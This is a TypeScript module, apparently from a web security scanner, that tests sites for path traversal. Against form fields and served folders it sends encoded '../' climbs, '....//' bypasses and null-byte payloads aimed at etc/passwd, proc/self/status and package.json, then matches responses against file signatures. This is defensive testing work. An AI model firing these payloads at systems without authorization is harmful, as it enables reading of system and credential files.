import { type Place, textPlaces } from '../places.ts';
import type { Attack, Exchange, HttpRequest, Site } from '../types.ts';
import { get, pathOf } from '../values.ts';

/** Files outside of what a product serves, and what only they hold. */
const FILES: readonly { file: string; sign: RegExp }[] = [
  { file: 'etc/passwd', sign: /^\w[\w-]*:[x*!]?:\d+:\d+:[^:\n]*:[^:\n]*:/m },
  { file: 'proc/self/status', sign: /^Name:\t.*\n(?:.*\n)*?Pid:\t\d+/m },
];
const OWN = {
  file: 'package.json',
  sign: /^\s*\{[\s\S]*(?:"(?:scripts|(?:devD|d)ependencies)"\s*:\s*\{|"type"\s*:\s*"module")/,
};
const UP = '../../../../../../../../';
const CLIMBS: readonly ((file: string) => string)[] = [
  (file) => `${UP}${file}`,
  (file) => `/${file}`,
  (file) => `....//....//....//....//....//....//....//${file}`,
  (file) => `${encodeURIComponent(UP)}${encodeURIComponent(file)}`,
  (file) => `${UP}${file}\u0000.png`,
];
const RAW: readonly string[] = ['../', '..%2f', '%2e%2e/', '%2e%2e%2f', '..%5c', '....//'];

/** What names a file, in a field or in the path itself, leads out of the folder that it should stay in. */
export const pathTraversal: Attack = {
  kind: 'path-traversal',
  async run(site) {
    for (const place of textPlaces(
      site,
      ({ type }) => type === 'text' || type === 'url' || type === 'choice',
    ))
      await attackField(site, place);
    for (const folder of folders(site)) await attackFolder(site, folder);
  },
};

async function attackField(site: Site, place: Place): Promise<void> {
  const targets = [
    ...FILES.flatMap((one) => CLIMBS.map((climb) => ({ text: climb(one.file), sign: one.sign }))),
    ...['../', '../../', '../../../'].map((up) => ({ text: up + OWN.file, sign: OWN.sign })),
  ];
  for (const { text, sign } of targets) {
    const build = (tag: string) => place.build(text, tag);
    if (!shows(await site.send(build(site.tag())), sign)) continue;
    // The same words in what it answers to any name are no file.
    if (shows(await site.send(place.build(`no-such-${site.tag()}.txt`, site.tag())), sign)) return;
    return suspect(site, place.where, `"${place.field.name}" of ${place.where}`, build, sign);
  }
}

async function attackFolder(site: Site, folder: string): Promise<void> {
  const targets = [...FILES.slice(0, 1), OWN];
  for (const climb of RAW) {
    for (const { file, sign } of targets) {
      const depths = file === OWN.file ? [1, 2] : [8];
      for (const depth of depths) {
        const path = `${folder}${climb.repeat(depth)}${climb.endsWith('%2f') ? file.replaceAll('/', '%2f') : file}`;
        if (!shows(await site.send(get(path)), sign)) continue;
        if (
          shows(await site.send(get(`${folder}no-such-file`)), sign) ||
          shows(await site.send(get(`/${file}`)), sign)
        )
          return;
        return suspect(site, `GET ${folder}…`, `a path below ${folder}`, () => get(path), sign);
      }
    }
  }
}

/** Folders that files are served from: of pages with an extension, and the root. */
function folders({ surface }: Site): string[] {
  const files = surface.pages
    .map(pathOf)
    .filter((page) => /\.\w{2,5}$/.test(page) && !/\.(json|xml)$/.test(page));
  return [
    ...new Set([...files.map((page) => page.slice(0, page.lastIndexOf('/') + 1)), '/', '/static/']),
  ].slice(0, 5);
}

function suspect(
  site: Site,
  where: string,
  from: string,
  build: (tag: string) => HttpRequest,
  sign: RegExp,
): void {
  site.suspect({
    kind: pathTraversal.kind,
    severity: 'critical',
    title: `Path traversal: ${from} reads files outside of what is served`,
    where,
    expects: `expect(last.body).not.toMatch(${sign});`,
    experiment: (tag) => ({
      steps: [build(tag)],
      judge: ([answer]) => (answer && shows(answer, sign) ? answer.body.slice(0, 120) : undefined),
    }),
  });
}

const shows = ({ status, body }: Exchange, sign: RegExp): boolean =>
  status >= 200 && status < 300 && sign.test(body);
